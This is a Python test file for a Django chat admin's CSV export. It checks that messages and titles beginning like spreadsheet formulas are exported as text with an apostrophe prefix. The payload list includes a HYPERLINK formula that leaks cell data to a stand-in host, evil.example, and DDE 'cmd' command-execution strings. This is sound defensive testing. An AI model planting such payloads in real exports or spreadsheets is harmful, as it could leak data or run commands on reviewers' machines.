"""A chat message that looks like a formula stays text in the reviewer's spreadsheet."""

import csv
import io

import pytest

from tests.support.conversations import converse

LIST = "/admin/chat/conversation/"


@pytest.mark.django_db
def test_cells_starting_like_a_formula_are_exported_as_text(reviewer_client, alice):
    payloads = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTAB",
    ]
    conversation = converse(alice, [(payload, "Noted.") for payload in payloads], title="=cmd|' /C calc'!A0")
    response = reviewer_client.post(LIST, {"action": "export_csv", "_selected_action": [conversation.pk]})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    questions = [row["content"] for row in rows if row["role"] == "user"]
    assert questions == ["'" + payload for payload in payloads]
    assert {row["conversation_title"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert [row["content"] for row in rows if row["role"] == "assistant"] == ["Noted."] * len(payloads)
